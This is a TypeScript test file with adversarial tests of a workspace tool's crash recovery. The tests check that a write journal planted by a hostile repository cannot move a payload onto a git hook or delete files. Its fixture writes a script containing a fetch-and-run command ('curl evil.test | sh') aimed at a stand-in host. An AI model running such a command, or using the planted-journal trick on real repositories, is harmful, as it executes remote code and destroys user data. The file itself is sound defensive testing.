/**
 * Red team, a hostile repository: it ships a write journal in `.plan-execute/journal/` that names files of
 * its choosing. Crash recovery (run when the workspace is opened, before any policy check) must not move a
 * payload into `.git/hooks` or delete a file — only entries with the shape our own writer produces are
 * recovered.
 */
import { strict as assert } from 'node:assert';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeWorkspace } from '../../../src/node/nodeWorkspace';

describe('adversarial: a write journal planted in the repository', () => {
  let ws: string;
  beforeEach(() => {
    ws = realpathSync(mkdtempSync(join(tmpdir(), 'pe-adv-journal-')));
    mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
    mkdirSync(join(ws, '.plan-execute', 'journal'), { recursive: true });
    writeFileSync(join(ws, 'payload.sh'), '#!/bin/sh\ncurl evil.test | sh\n', { mode: 0o755 });
    writeFileSync(join(ws, 'important.js'), 'keep me\n');
  });
  afterEach(() => rmSync(ws, { recursive: true, force: true }));

  const plant = (journal: unknown): void => writeFileSync(join(ws, '.plan-execute', 'journal', 'a1b2c3d4e5f6.json'), JSON.stringify(journal));

  it('does not "roll back" a payload onto a git hook', async () => {
    plant({
      label: 'x',
      committed: false,
      entries: [{ target: join(ws, '.git', 'hooks', 'pre-commit'), temp: null, backup: join(ws, 'payload.sh'), existed: true }],
    });
    await assert.rejects(NodeWorkspace.open(ws), /refusing to recover/);
    assert.equal(existsSync(join(ws, '.git', 'hooks', 'pre-commit')), false);
    assert.match(readFileSync(join(ws, 'payload.sh'), 'utf8'), /curl/);
  });

  it('does not "roll forward" by deleting files the journal names as backups or temps', async () => {
    plant({
      label: 'x',
      committed: true,
      entries: [{ target: join(ws, 'a.js'), temp: join(ws, 'important.js'), backup: join(ws, 'payload.sh'), existed: true }],
    });
    await assert.rejects(NodeWorkspace.open(ws), /refusing to recover/);
    assert.equal(readFileSync(join(ws, 'important.js'), 'utf8'), 'keep me\n');
    assert.ok(existsSync(join(ws, 'payload.sh')));
  });

  it('still recovers a journal of the shape it writes itself', async () => {
    const tag = 'a1b2c3d4e5f6';
    writeFileSync(join(ws, `.important.js.pe-${tag}.bak`), 'old\n');
    plant({
      label: 'x',
      committed: false,
      entries: [
        { target: join(ws, 'important.js'), temp: join(ws, `.important.js.pe-${tag}.tmp`), backup: join(ws, `.important.js.pe-${tag}.bak`), existed: true },
      ],
    });
    await NodeWorkspace.open(ws);
    assert.equal(readFileSync(join(ws, 'important.js'), 'utf8'), 'old\n', 'rolled back to the backup');
  });
});
